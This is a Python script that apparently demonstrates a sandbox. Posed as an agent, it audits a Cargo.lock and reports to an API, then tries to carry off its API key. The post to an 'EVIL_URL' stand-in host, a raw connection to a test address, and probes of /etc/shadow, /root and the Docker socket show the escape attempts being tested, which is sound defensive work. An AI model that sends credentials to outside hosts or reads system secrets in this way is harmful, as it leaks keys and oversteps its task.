"""An agent at work, small: it audits the Cargo.lock on its standard input, reports the result to an
API with the key that it was given, and then tries to carry that key away.

It uses nothing but the standard library of the host's own Python, and knows nothing of the sandbox
that it runs in. Where to report, and whom to tell, it learns from its environment.
"""

import collections
import json
import os
import platform
import socket
import sys
import time
import urllib.request

MARK = "/usr/share/matchlock-demo-was-here"
# An address of TEST-NET-1 (RFC 5737): nobody's.
ADDRESS = ("192.0.2.1", 443)


def look_around():
    print(f"kernel      {platform.system()} {platform.release()}")
    with open("/proc/1/comm", encoding="ascii") as comm:
        print(f"process 1   {comm.read().strip()}")
    for path in ("/home", "/root", "/etc/shadow", "/var/run/docker.sock"):
        print(f"{path:<22}{contents(path)}")
    print(f"$API_KEY    {os.environ['API_KEY']}")


def contents(path):
    try:
        if os.path.isdir(path):
            entries = os.listdir(path)
            return f"{len(entries)} entries" if entries else "empty"
        with open(path, "rb") as file:
            return f"readable, {len(file.read())} bytes"
    except OSError as error:
        return (error.strerror or str(error)).lower()


def leave_a_mark():
    """The writable layer is the sandbox's own: nothing of this gets to the host."""
    with open(MARK, "x", encoding="ascii") as file:
        file.write("from the sandbox\n")
    print(f"wrote       {MARK}")


def audit(lock):
    packages, wanted_by, name = [], collections.Counter(), None
    for line in lock:
        key, _, value = line.partition(" = ")
        if key == "name":
            name = value.strip().strip('"')
        elif key == "version" and name:
            packages.append((name, value.strip().strip('"')))
        elif line.startswith(' "'):
            wanted_by[line.strip().strip('",').split(" ")[0]] += 1
    versions = collections.defaultdict(list)
    for name, version in packages:
        versions[name].append(version)
    return {
        "packages": len(packages),
        "names": len(versions),
        "twice": {name: found for name, found in versions.items() if len(found) > 1},
        "wanted_most": wanted_by.most_common(5),
    }


def post(url, report):
    """Sends the report with the key; says what came of it, and whether it arrived."""
    headers = {
        "Authorization": f"Bearer {os.environ['API_KEY']}",
        "Content-Type": "application/json",
    }
    request = urllib.request.Request(url, json.dumps(report).encode(), headers)
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            return f"{response.status}, {response.read().decode()}", True
    except OSError as error:
        return str(getattr(error, "reason", error)), False


def connect(address):
    try:
        socket.create_connection(address, timeout=60).close()
        return "connected", True
    except OSError as error:
        return error.strerror or str(error), False


def attempt(what, action, *arguments):
    start = time.perf_counter()
    outcome, done = action(*arguments)
    elapsed = (time.perf_counter() - start) * 1000
    print(f"{what}\n    {outcome} ({elapsed:.0f} ms)")
    return done


def main():
    look_around()
    leave_a_mark()
    report = audit(sys.stdin)
    print(f"audited     {report['packages']} packages, {len(report['twice'])} in two versions")
    api, evil = os.environ["API_URL"], os.environ["EVIL_URL"]
    reported = attempt(f"report to {api}", post, api, report)
    attempt(f"the same to {evil}", post, evil, report)
    attempt(f"connect to {ADDRESS[0]}:{ADDRESS[1]}", connect, ADDRESS)
    if not reported:
        sys.exit("the report did not arrive")


main()
